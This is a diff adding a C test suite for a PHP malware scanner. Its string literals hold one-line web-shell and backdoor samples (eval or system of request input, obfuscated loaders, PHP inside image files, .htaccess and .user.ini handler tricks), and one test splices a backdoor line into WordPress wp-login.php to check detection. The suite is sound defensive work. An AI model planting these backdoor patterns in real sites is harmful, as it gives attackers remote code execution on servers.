@@ -1,0 +1,534 @@
+// SPDX-License-Identifier: GPL-2.0-or-later
+/* phpscan, yarascan and analyse on samples written here: one per finding
+ * class, a backdoor line injected into a real WordPress core file (Debian's
+ * tree, via scripts/fixtures.sh), and benign code that must stay clean. */
+#include <dirent.h>
+#include <errno.h>
+#include <stdint.h>
+#include <stdio.h>
+#include <stdlib.h>
+#include <string.h>
+#include <sys/stat.h>
+#include <unistd.h>
+
+#include "analyse.h"
+#include "phpscan.h"
+#include "t.h"
+#include "yarascan.h"
+
+static struct phpscan_result res;
+
+static int
+scan(const char *name, const char *src)
+{
+	return phpscan_buf((const uint8_t *)src, strlen(src), name, &res);
+}
+
+static const struct phpscan_finding *
+find(enum phpscan_class c)
+{
+	unsigned i;
+
+	for (i = 0; i < res.n; i++)
+		if (res.f[i].cls == c)
+			return &res.f[i];
+	return NULL;
+}
+
+/* the class is found with at least this confidence, at this line (0: any) */
+static int
+has(enum phpscan_class c, enum phpscan_conf conf, uint32_t line)
+{
+	const struct phpscan_finding *f = find(c);
+
+	return f != NULL && f->conf >= conf && (line == 0 || f->line == line);
+}
+
+static void
+dump(void)
+{
+	unsigned i;
+
+	for (i = 0; i < res.n; i++)
+		printf("    %s/%s line %u: %s\n", phpscan_class_name(res.f[i].cls), phpscan_conf_name(res.f[i].conf),
+		       res.f[i].line, res.f[i].excerpt);
+}
+
+#define T_HAS(name, src, cls, conf, line)                                                                   \
+	do {                                                                                                \
+		scan(name, src);                                                                            \
+		T_CHECK(has(cls, conf, line), "%s: no %s at line %u", #src, phpscan_class_name(cls), line); \
+		if (!has(cls, conf, line))                                                                  \
+			dump();                                                                             \
+	} while (0)
+
+#define T_CLEAN(name, src)                                                                                  \
+	do {                                                                                                \
+		scan(name, src);                                                                            \
+		T_CHECK(res.worst == PHPSCAN_NOTE && res.notes < 2, "%s: not clean", #src);                 \
+		if (res.worst != PHPSCAN_NOTE)                                                              \
+			dump();                                                                             \
+	} while (0)
+
+static void
+test_droppers(void)
+{
+	/* the one-line dropper, and its kin */
+	T_HAS("x.php", "<?php @eval($_POST['x']); ?>", PHPSCAN_EXEC_OF_INPUT, PHPSCAN_HIGH, 1);
+	T_HAS("x.php", "<?php\n\n  system($_GET['c']);", PHPSCAN_EXEC_OF_INPUT, PHPSCAN_HIGH, 3);
+	T_HAS("x.php", "<?php assert(stripslashes($_REQUEST[\"a\"]));", PHPSCAN_EXEC_OF_INPUT, PHPSCAN_HIGH, 1);
+	T_HAS("x.php", "<?php echo `$_GET[c]`;", PHPSCAN_EXEC_OF_INPUT, PHPSCAN_HIGH, 1);
+	T_HAS("x.php", "<?php $_GET['f']($_GET['a']);", PHPSCAN_EXEC_OF_INPUT, PHPSCAN_HIGH, 1);
+	T_HAS("x.php", "<?php $h = getallheaders(); eval($h['X-Run']);", PHPSCAN_EXEC_OF_INPUT, PHPSCAN_HIGH, 1);
+	T_HAS("x.php", "<?php eval(file_get_contents('php://input'));", PHPSCAN_EXEC_OF_INPUT, PHPSCAN_HIGH, 1);
+	T_HAS("x.php", "<?php passthru($_SERVER['HTTP_X_CMD']);", PHPSCAN_EXEC_OF_INPUT, PHPSCAN_HIGH, 1);
+	T_HAS("x.php", "<?php call_user_func($_POST['f'], $_POST['a']);", PHPSCAN_EXEC_OF_INPUT, PHPSCAN_HIGH, 1);
+	T_HAS("x.php", "<?php array_map('assert', array($_REQUEST['p']));", PHPSCAN_EXEC_OF_INPUT, PHPSCAN_HIGH,
+	      1);
+	T_HAS("x.php", "<?php preg_replace('/.*/e', $_POST['c'], '');", PHPSCAN_EXEC_OF_INPUT, PHPSCAN_HIGH, 1);
+	T_HAS("x.php", "<?php $f = create_function('', $_POST['b']); $f();", PHPSCAN_EXEC_OF_INPUT, PHPSCAN_HIGH, 1);
+	T_HAS("x.php", "<?php include $_GET['page'];", PHPSCAN_INCLUDE_OF_INPUT, PHPSCAN_HIGH, 1);
+	T_HAS("x.php", "<?php include 'php://input';", PHPSCAN_INCLUDE_OF_STREAM, PHPSCAN_HIGH, 1);
+}
+
+static void
+test_tokenizer(void)
+{
+	/* whitespace, comments and case between a name and its parenthesis */
+	T_HAS("x.php", "<?php EvAl /* x */ (\n $_GET['c']);", PHPSCAN_EXEC_OF_INPUT, PHPSCAN_HIGH, 1);
+	T_HAS("x.php", "<?php \\system # c\n($_COOKIE['c']);", PHPSCAN_EXEC_OF_INPUT, PHPSCAN_HIGH, 1);
+	/* code in comments, strings and heredocs is not code */
+	T_CLEAN("x.php", "<?php // eval($_POST['x']);\n/* system($_GET['c']); */\necho 'ok';");
+	T_CLEAN("x.php", "<?php $doc = 'eval($_POST[1])'; echo $doc;");
+	T_CLEAN("x.php", "<?php echo <<<EOT\nsystem($_GET[c]);\nEOT;\necho 1;");
+	T_CLEAN("x.php", "<?php echo <<<'EOT'\neval($_POST[c]);\nEOT;\n");
+	/* `?>` ends PHP, also inside a line comment; what follows is HTML */
+	T_CLEAN("x.php", "<?php // ?> eval($_GET['x']);\n");
+	T_CLEAN("x.php", "<html><p>eval($_GET['x'])</p></html>");
+	/* an object's method named like a sink is not the sink */
+	T_CLEAN("x.php", "<?php $db->exec($_POST['sql']); Foo::system($_GET['x']);");
+	/* a definition is not a call */
+	T_CLEAN("x.php", "<?php function system2($a) { return $a; } class A { function exec($c) {} }");
+	/* unterminated constructs end at the end of the buffer */
+	T_CLEAN("x.php", "<?php echo 'open");
+	T_CLEAN("x.php", "<?php /* open");
+	T_CLEAN("x.php", "<?php echo <<<EOT\nno end");
+	T_CLEAN("x.php", "");
+}
+
+static void
+test_taint(void)
+{
+	T_HAS("x.php", "<?php\n$c = $_POST['c'];\n$d = trim($c);\nsystem($d);", PHPSCAN_EXEC_OF_INPUT,
+	      PHPSCAN_HIGH, 4);
+	T_HAS("x.php", "<?php foreach ($_POST as $k => $v) { eval($v); }", PHPSCAN_EXEC_OF_INPUT, PHPSCAN_HIGH, 1);
+	/* a function that runs its parameter, called with input */
+	T_HAS("x.php", "<?php\nfunction run($x) { return shell_exec($x); }\necho run($_GET['q']);",
+	      PHPSCAN_EXEC_OF_INPUT, PHPSCAN_HIGH, 3);
+	/* register_globals: a top-level variable the file never assigns, run */
+	T_HAS("x.php", "<?php\nif (isset($cmd)) {\n  echo '<pre>';\n  system(\"$cmd 2>&1\");\n}", PHPSCAN_EXEC_OF_INPUT,
+	      PHPSCAN_WEAK, 4);
+	/* assigned by =, foreach, list(), preg_match's output: the file's own */
+	T_CLEAN("x.php", "<?php $c = 'uptime'; system($c); foreach ($cmds as $d) { exec($d, $out); }"
+			 " list($e) = explode(' ', $x); passthru($e); preg_match('/x/', $y, $m); shell_exec($m[0]);");
+	/* a sanitizer breaks the flow */
+	T_CLEAN("x.php", "<?php exec('convert ' . escapeshellarg($_FILES['f']['tmp_name']) . ' out.png');");
+	T_CLEAN("x.php", "<?php system('ls -l ' . intval($_GET['n']));");
+	/* an index selects an element, the element is not input */
+	T_CLEAN("x.php", "<?php $cbs = array('a' => 'f1'); call_user_func($cbs[$_GET['k']]);");
+	/* a closure's parameter is not the caller's variable */
+	T_CLEAN("x.php", "<?php $p = $_GET['p']; $r = array_map(function ($p) { return $p . 'x'; }, $list);");
+}
+
+static void
+test_obfuscation(void)
+{
+	/* an obfuscated loader */
+	T_HAS("x.php", "<?php\n$z = 'ZWNobyAxOw==';\neval(gzinflate(base64_decode($z)));\n",
+	      PHPSCAN_OBFUSCATED_EVAL, PHPSCAN_HIGH, 3);
+	T_HAS("x.php", "<?php eval(str_rot13(gzinflate(str_rev(base64_decode('AAAA')))));",
+	      PHPSCAN_OBFUSCATED_EVAL, PHPSCAN_HIGH, 1);
+	/* names hidden by escapes, rot13, reversal, concatenation */
+	T_HAS("x.php", "<?php $f = \"\\x73\\x79\\x73\\x74\\x65\\x6d\"; $f('id');", PHPSCAN_OBFUSCATED_CALL,
+	      PHPSCAN_HIGH, 1);
+	T_HAS("x.php", "<?php $f = str_rot13('nffreg'); $f($_REQUEST['c']);", PHPSCAN_OBFUSCATED_CALL,
+	      PHPSCAN_HIGH, 1);
+	T_HAS("x.php", "<?php $a = 'as' . 'se' . 'rt'; $a($_POST['z']);", PHPSCAN_EXEC_OF_INPUT, PHPSCAN_HIGH, 1);
+	T_HAS("x.php", "<?php ${'_PO' . 'ST'}['x'](${'_PO' . 'ST'}['y']);", PHPSCAN_EXEC_OF_INPUT, PHPSCAN_HIGH,
+	      1);
+	/* a payload that decodes to PHP */
+	T_HAS("x.php", "<?php file_put_contents('a.php', base64_decode('PD9waHAgZXZhbCgkX1BPU1RbMV0pOz8+'));",
+	      PHPSCAN_HIDDEN_PHP, PHPSCAN_HIGH, 1);
+	/* a name cleaned out of filler by str_replace */
+	T_HAS("x.php", "<?php $a = str_replace('q', '', 'aqsqsqeqrqt');\n$a($_POST['c']);", PHPSCAN_OBFUSCATED_CALL,
+	      PHPSCAN_HIGH, 1);
+	/* a packer's output: strings and bare words xor'ed, or'ed, and'ed */
+	{
+		char buf[4096];
+		size_t o = (size_t)snprintf(buf, sizeof(buf), "<?php\n");
+		int i;
+
+		for (i = 0; i < 30; i++)
+			o += (size_t)snprintf(buf + o, sizeof(buf) - o, "$v%d = 'Kq3'^aZx%d|'@@'&'%c';\n", i, i,
+					      'a' + i % 26);
+		T_HAS("x.php", buf, PHPSCAN_XOR_STRINGS, PHPSCAN_HIGH, 0);
+	}
+	/* flags and constants or'ed are not a packer */
+	T_CLEAN("x.php", "<?php error_reporting(E_ERROR | E_WARNING | E_PARSE); if ($a == 'x' || $b == 'y' && $c) {}");
+	/* a sink handed to a method as its callback; 'system' as an event's name is not one */
+	T_HAS("x.php", "<?php $a = new ArrayObject(array($_REQUEST['p'])); $a->uasort('assert');",
+	      PHPSCAN_OBFUSCATED_CALL, PHPSCAN_WEAK, 1);
+	T_CLEAN("x.php", "<?php $events->registerHandler('init', 'system', 'my_init');");
+	/* the whole pattern of preg_replace from a source */
+	T_HAS("x.php", "<?php $x = exif_read_data('a.jpg'); preg_replace($x['Make'], $x['Model'], '');",
+	      PHPSCAN_EXEC_OF_INPUT, PHPSCAN_WEAK, 1);
+	/* code without letters */
+	T_HAS("x.php", "<?php $_=[];$_[]=@!+_;$__=@${_}>>$_;$_[]=$__;$_[]=@_;$___=$_[$__];$_[$__].=$_;$__($_[$___]);",
+	      PHPSCAN_SYMBOL_SOUP, PHPSCAN_WEAK, 1);
+	/* a name picked from an alphabet with old-style offsets, then called */
+	T_HAS("x.php", "<?php $a = 'sewtemznypianol'; $f = $a{0}.$a{8}.$a{0}.$a{3}.$a{1}.$a{5}.$a{0}.$a{8}.$a{0}.$a{3}"
+		       ".$a{1}.$a{5}.$a{0}.$a{8}.$a{0}.$a{3}.$a{1}.$a{5};",
+	      PHPSCAN_CHAR_BY_CHAR, PHPSCAN_WEAK, 1);
+	/* @ before an assignment does not hide it */
+	T_HAS("x.php", "<?php @$x = 'as' . 'sert'; @$x($_POST['p']);", PHPSCAN_EXEC_OF_INPUT, PHPSCAN_HIGH, 1);
+	/* chr() soup feeding eval */
+	T_HAS("x.php",
+	      "<?php eval(chr(101).chr(99).chr(104).chr(111).chr(32).chr(49).chr(59).chr(32).chr(32).chr(32));",
+	      PHPSCAN_OBFUSCATED_EVAL, PHPSCAN_HIGH, 1);
+	/* string literals xor'ed */
+	T_HAS("x.php", "<?php $a = ('!' ^ '@') . ('#' ^ 'p') . ('%' ^ 'q'); $b = ('1' ^ 'z') . ('2' ^ 'y');",
+	      PHPSCAN_XOR_STRINGS, PHPSCAN_WEAK, 1);
+}
+
+static void
+test_placement(void)
+{
+	static const char ico[] = "\x00\x00\x01\x00\x01\x00\x10\x10\x00\x00<?php system($_GET['c']); ?>";
+	static const char png[] = "\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR<?php eval($_POST[1]);";
+
+	/* PHP inside an .ico */
+	phpscan_buf((const uint8_t *)ico, sizeof(ico) - 1, "favicon.ico", &res);
+	T_OK(has(PHPSCAN_PHP_IN_IMAGE, PHPSCAN_HIGH, 1));
+	T_OK(has(PHPSCAN_EXEC_OF_INPUT, PHPSCAN_HIGH, 1));
+	phpscan_buf((const uint8_t *)png, sizeof(png) - 1, "logo.png", &res);
+	T_OK(has(PHPSCAN_PHP_IN_IMAGE, PHPSCAN_HIGH, 3)); /* the PNG header holds two newlines */
+	/* a .jpg that is PHP */
+	T_HAS("uploads/2024/01/logo.jpg", "<?php\n@include $_GET['x'];", PHPSCAN_PHP_IN_NON_PHP, PHPSCAN_WEAK, 1);
+	/* a document quoting PHP is not PHP, nor a plain image */
+	T_CLEAN("README.txt", "Install:\n  <?php include $_GET['x']; ?>\nis how not to do it.\n");
+	phpscan_buf((const uint8_t *)"\x89PNG\r\n\x1a\n\x00\x00<?xml", 15, "a.png", &res);
+	T_EQ_INT(res.n, 0);
+	/* code pushed off-screen */
+	{
+		char buf[600];
+
+		snprintf(buf, sizeof(buf), "<?php\necho 1;\n%*s eval($x);\n", 300, "");
+		T_HAS("x.php", buf, PHPSCAN_HIDDEN_CODE, PHPSCAN_WEAK, 3);
+	}
+}
+
+static void
+test_config_files(void)
+{
+	/* an .htaccess making .jpg executable */
+	T_HAS(".htaccess", "RewriteEngine On\nAddType application/x-httpd-php .jpg .php\n",
+	      PHPSCAN_HTACCESS_HANDLER, PHPSCAN_HIGH, 2);
+	T_HAS("up/.htaccess", "<FilesMatch \"\\.(jpe?g|png)$\">\n  SetHandler application/x-httpd-php\n</FilesMatch>\n",
+	      PHPSCAN_HTACCESS_HANDLER, PHPSCAN_HIGH, 2);
+	T_HAS(".htaccess", "AddHandler php-script .txt\n", PHPSCAN_HTACCESS_HANDLER, PHPSCAN_HIGH, 1);
+	T_HAS(".htaccess", "# x\nphp_value auto_prepend_file /var/www/up/a.gif\n", PHPSCAN_AUTO_PREPEND,
+	      PHPSCAN_HIGH, 2);
+	/* auto_prepend_file in .user.ini */
+	T_HAS(".user.ini", "; site\nauto_prepend_file = \"/var/www/s/wp-content/uploads/2024/01/logo.jpg\"\n",
+	      PHPSCAN_AUTO_PREPEND, PHPSCAN_HIGH, 2);
+	T_HAS(".user.ini", "auto_append_file=/tmp/x.php\n", PHPSCAN_AUTO_PREPEND, PHPSCAN_HIGH, 1);
+	/* a prepend of a PHP file elsewhere is worth a look, not an alarm */
+	scan(".user.ini", "auto_prepend_file = '/var/www/s/waf/firewall-waf.php'\n");
+	T_OK(has(PHPSCAN_AUTO_PREPEND, PHPSCAN_WEAK, 1) && res.worst == PHPSCAN_WEAK);
+	/* what hosts and applications write every day */
+	T_CLEAN(".htaccess", "Deny from all\n");
+	T_CLEAN(".htaccess", "<IfModule mod_rewrite.c>\nRewriteEngine On\nRewriteBase /\nRewriteRule ^index\\.php$ - [L]\n"
+			     "RewriteCond %{REQUEST_FILENAME} !-f\nRewriteRule . /index.php [L]\n</IfModule>\n");
+	T_CLEAN(".htaccess", "<FilesMatch \\.php$>\n  SetHandler \"proxy:unix:/run/php/php8.2-fpm.sock|fcgi://localhost\"\n"
+			     "</FilesMatch>\nAddType application/x-httpd-php .php\n");
+	T_CLEAN(".user.ini", "upload_max_filesize = 64M\nauto_prepend_file = none\n");
+}
+
+static void
+test_writers(void)
+{
+	/* a file editor: where and what both from the request */
+	T_HAS("x.php", "<?php\n$f = $_POST['path'];\nfwrite(fopen($f, 'w'), $_POST['body']);", PHPSCAN_WRITE_OF_INPUT,
+	      PHPSCAN_WEAK, 3);
+	/* a download dropper */
+	T_HAS("x.php", "<?php copy('http://example.invalid/s.txt', 'x.php');", PHPSCAN_REMOTE_DROPPER, PHPSCAN_WEAK,
+	      1);
+	/* an uploader that keeps the client's name, and one that does not */
+	T_HAS("x.php", "<?php move_uploaded_file($_FILES['f']['tmp_name'], $_FILES['f']['name']);",
+	      PHPSCAN_UPLOAD_AS_NAMED, PHPSCAN_WEAK, 1);
+	T_CLEAN("x.php", "<?php move_uploaded_file($_FILES['f']['tmp_name'], $dir . '/' . basename($_FILES['f']['name']));");
+	/* a database console */
+	T_HAS("x.php", "<?php $r = mysqli_query($link, $_POST['sql']);", PHPSCAN_SQL_OF_INPUT, PHPSCAN_WEAK, 1);
+	/* a cache file written by the application is not an editor */
+	T_CLEAN("x.php", "<?php file_put_contents(__DIR__ . '/cache/' . md5($_GET['q']) . '.json', json_encode($r));");
+}
+
+static void
+test_mailer(void)
+{
+	T_HAS("x.php", "<?php\n$to = explode(\"\\n\", $_POST['list']);\nforeach ($to as $t) {\n"
+		       "  mail($t, $_POST['s'], $_POST['b']);\n}\n",
+	      PHPSCAN_MASS_MAILER, PHPSCAN_WEAK, 4);
+	/* a contact form mails once */
+	T_CLEAN("x.php", "<?php mail('me@example.org', 'contact', $_POST['msg']);");
+}
+
+static void
+test_benign(void)
+{
+	T_CLEAN("x.php", "<?php\nclass A {\n  function run() {\n    return call_user_func(array($this, 'go'), 1);\n"
+			 "  }\n}\n$img = base64_decode('iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkYPhfDwAChwGA60e6kgAAAABJRU5ErkJggg==');\n");
+	T_CLEAN("x.php", "<?php $out = preg_replace('/\\s+/', ' ', $_POST['text']); echo htmlspecialchars($out);");
+	T_CLEAN("x.php", "<?php $tpl = compile($src); eval('?>' . $tpl);");
+	T_CLEAN("x.php", "<?php if (isset($_GET['p'])) { $page = basename($_GET['p']); include 'pages/' . $page . '.php'; }");
+	T_CLEAN("x.php", "<?php $cb = $this->hooks[$name]; $cb($args); usort($a, function ($x, $y) { return $x <=> $y; });");
+}
+
+static void
+test_limits(void)
+{
+	size_t n = 200000, i;
+	char *p = malloc(n + 8);
+
+	T_OK(p != NULL);
+	if (p == NULL)
+		return;
+	/* nesting deeper than tracked, then many findings of many classes */
+	memcpy(p, "<?php ", 6);
+	for (i = 6; i < n / 2; i++)
+		p[i] = '(';
+	for (; i < n; i++)
+		p[i] = ')';
+	p[n] = '\0';
+	T_OK(phpscan_buf((const uint8_t *)p, n, "x.php", &res) >= 0);
+	T_OK(res.n <= PHPSCAN_FINDINGS_MAX);
+	free(p);
+	T_EQ_INT(phpscan_buf(NULL, 1, "x", &res), -EINVAL);
+	T_EQ_INT(phpscan_buf((const uint8_t *)"", 0, NULL, NULL), -EINVAL);
+	T_EQ_INT(phpscan_buf(NULL, 0, NULL, &res), 0);
+}
+
+/* the path of Debian's WordPress tree (scripts/fixtures.sh fetches it once) */
+static int
+wordpress_tree(char *out, size_t sz)
+{
+	const char *top = getenv("WSID_TOP");
+	char cmd[4096];
+	FILE *f;
+	int ok;
+
+	snprintf(cmd, sizeof(cmd), ". '%s/scripts/fixtures.sh' && fixture_tree wordpress", top ? top : ".");
+	f = popen(cmd, "r");
+	if (f == NULL)
+		return -1;
+	ok = fgets(out, (int)sz, f) != NULL;
+	if (pclose(f) != 0 || !ok)
+		return -1;
+	out[strcspn(out, "\n")] = '\0';
+	return 0;
+}
+
+static char *
+slurp(const char *path, size_t *n)
+{
+	FILE *f = fopen(path, "rb");
+	char *p = NULL;
+	long l;
+
+	if (f == NULL)
+		return NULL;
+	if (fseek(f, 0, SEEK_END) == 0 && (l = ftell(f)) >= 0 && fseek(f, 0, SEEK_SET) == 0) {
+		p = malloc((size_t)l + 1);
+		if (p && fread(p, 1, (size_t)l, f) != (size_t)l) {
+			free(p);
+			p = NULL;
+		}
+		if (p) {
+			p[l] = '\0';
+			*n = (size_t)l;
+		}
+	}
+	fclose(f);
+	return p;
+}
+
+/* every PHP file of WordPress core (recursively): how many are not clean */
+static void
+scan_tree(const char *dir, int *files, int *bad)
+{
+	DIR *d = opendir(dir);
+	struct dirent *de;
+
+	while (d && (de = readdir(d)) != NULL) {
+		char path[4096];
+		struct stat st;
+		size_t n;
+		char *p;
+
+		if (de->d_name[0] == '.')
+			continue;
+		snprintf(path, sizeof(path), "%s/%s", dir, de->d_name);
+		if (lstat(path, &st) < 0)
+			continue;
+		if (S_ISDIR(st.st_mode)) {
+			scan_tree(path, files, bad);
+			continue;
+		}
+		if (!S_ISREG(st.st_mode) || strstr(de->d_name, ".php") == NULL || (p = slurp(path, &n)) == NULL)
+			continue;
+		(*files)++;
+		phpscan_buf((const uint8_t *)p, n, path, &res);
+		if (res.worst > PHPSCAN_NOTE || res.notes >= 2) {
+			(*bad)++;
+			printf("  not clean: %s\n", path);
+			dump();
+		}
+		free(p);
+	}
+	if (d)
+		closedir(d);
+}
+
+static void
+test_wordpress(void)
+{
+	static const char line[] = "if (isset($_REQUEST['wp_k'])) { @eval(base64_decode($_REQUEST['wp_k'])); }\n";
+	char tree[2048], path[4096];
+	char *orig, *inj, *nl;
+	size_t n;
+	int files = 0, bad = 0;
+
+	T_CHECK(wordpress_tree(tree, sizeof(tree)) == 0, "Debian's WordPress tree is not at hand");
+	snprintf(path, sizeof(path), "%s/wp-login.php", tree);
+	orig = slurp(path, &n);
+	T_CHECK(orig != NULL, "cannot read %s", path);
+	if (orig == NULL)
+		return;
+	phpscan_buf((const uint8_t *)orig, n, "wp-login.php", &res);
+	T_CHECK(res.worst == PHPSCAN_NOTE, "wp-login.php as released is not clean");
+	/* the backdoor line goes in after the opening line */
+	nl = strchr(orig, '\n');
+	T_OK(nl != NULL);
+	if (nl != NULL) {
+		size_t head = (size_t)(nl - orig) + 1;
+
+		inj = malloc(n + sizeof(line));
+		memcpy(inj, orig, head);
+		memcpy(inj + head, line, sizeof(line) - 1);
+		memcpy(inj + head + sizeof(line) - 1, orig + head, n - head);
+		phpscan_buf((const uint8_t *)inj, n + sizeof(line) - 1, "wp-login.php", &res);
+		T_OK(has(PHPSCAN_EXEC_OF_INPUT, PHPSCAN_HIGH, 2));
+		free(inj);
+	}
+	free(orig);
+	/* and the whole core stays clean */
+	scan_tree(tree, &files, &bad);
+	T_CHECK(files > 900, "only %d PHP files in %s", files, tree);
+	T_CHECK(bad == 0, "%d of %d WordPress core files raised", bad, files);
+}
+
+static void
+test_yara_and_verdict(void)
+{
+	const char *top = getenv("WSID_TOP");
+	char glob[4096], bad[] = "/tmp/wsid-test-rules.XXXXXX", err[512];
+	const char *globs[2];
+	struct yarascan *y = NULL;
+	struct analyse *a = NULL, *a2 = NULL;
+	struct analyse_result r;
+	char v1[ANALYSE_RULES_VERSION_LEN + 1];
+	FILE *f;
+	int fd, rc;
+
+	snprintf(glob, sizeof(glob), "%s/rules/*.yar", top ? top : ".");
+	globs[0] = glob;
+	rc = analyse_new(globs, 1, &a, err, sizeof(err));
+	T_CHECK(rc == 0, "%s", err);
+	if (rc != 0)
+		return;
+	T_OK(analyse_rule_files(a) >= 1);
+	snprintf(v1, sizeof(v1), "%s", analyse_rules_version(a));
+	T_EQ_INT(strlen(v1), 64);
+
+	T_OK(analyse_buf(a, (const uint8_t *)"<?php @eval($_POST['x']); ?>", 29, "a.php", &r) == 0);
+	T_EQ_INT(r.verdict, ANALYSE_MALICIOUS);
+	T_OK(r.n >= 1 && r.f[0].conf == 2 && r.f[0].line == 1);
+	/* a rule sees code written inside a string; phpscan does not */
+	{
+		static const char s[] = "<?php $p = '<?php system($_GET[\"c\"]); ?>'; file_put_contents('x.txt', $p);";
+
+		T_OK(analyse_buf(a, (const uint8_t *)s, sizeof(s) - 1, "d.php", &r) == 0);
+		T_EQ_INT(r.verdict, ANALYSE_MALICIOUS);
+		T_EQ_STR(r.f[0].rule, "wsid_input_exec_text");
+	}
+	T_OK(analyse_buf(a, (const uint8_t *)"<?php echo 'hello';", 19, "b.php", &r) == 0);
+	T_EQ_INT(r.verdict, ANALYSE_CLEAN);
+	T_EQ_INT(r.n, 0);
+	T_OK(analyse_buf(a, (const uint8_t *)"auto_prepend_file=/tmp/a.gif\n", 29, ".user.ini", &r) == 0);
+	T_EQ_INT(r.verdict, ANALYSE_MALICIOUS);
+	T_EQ_STR(r.f[0].cls, "auto-prepend");
+
+	/* a rule file that does not compile is named with its line */
+	fd = mkstemp(bad);
+	T_OK(fd >= 0);
+	if (fd < 0)
+		goto out;
+	f = fdopen(fd, "w");
+	fputs("rule ok { condition: true }\n\nrule broken {\n  strings: $a = \"x\"\n  condition: $a and\n}\n", f);
+	fclose(f);
+	globs[1] = bad;
+	rc = analyse_new(globs, 2, &a2, err, sizeof(err));
+	T_OK(rc < 0 && a2 == NULL);
+	T_CHECK(strstr(err, bad) != NULL && strstr(err, ":6:") != NULL, "error was '%s'", err);
+	/* a rule with our meta, added beside ours: the version changes */
+	f = fopen(bad, "w");
+	fputs("rule admin_marker { meta: severity = \"high\" class = \"admin-marker\" strings: $m = \"XYZZY-MARK\" "
+	      "condition: $m }\n",
+	      f);
+	fclose(f);
+	rc = analyse_new(globs, 2, &a2, err, sizeof(err));
+	T_CHECK(rc == 0, "%s", err);
+	if (rc == 0) {
+		T_OK(strcmp(v1, analyse_rules_version(a2)) != 0);
+		T_OK(analyse_buf(a2, (const uint8_t *)"a\nb XYZZY-MARK", 14, "n.txt", &r) == 0);
+		T_EQ_INT(r.verdict, ANALYSE_MALICIOUS);
+		T_EQ_STR(r.f[0].cls, "admin-marker");
+		T_EQ_INT(r.f[0].line, 2);
+	}
+	/* no such file, named without a wildcard */
+	globs[1] = "/nonexistent/wsid.yar";
+	T_EQ_INT(yarascan_new(globs + 1, 1, &y, err, sizeof(err)), -ENOENT);
+	T_OK(strstr(err, "/nonexistent/wsid.yar") != NULL);
+	unlink(bad);
+out:
+	analyse_free(a2);
+	analyse_free(a);
+}
+
+int
+main(void)
+{
+	T_RUN(test_droppers);
+	T_RUN(test_tokenizer);
+	T_RUN(test_taint);
+	T_RUN(test_obfuscation);
+	T_RUN(test_placement);
+	T_RUN(test_config_files);
+	T_RUN(test_writers);
+	T_RUN(test_mailer);
+	T_RUN(test_benign);
+	T_RUN(test_limits);
+	T_RUN(test_wordpress);
+	T_RUN(test_yara_and_verdict);
+	T_DONE();
+}
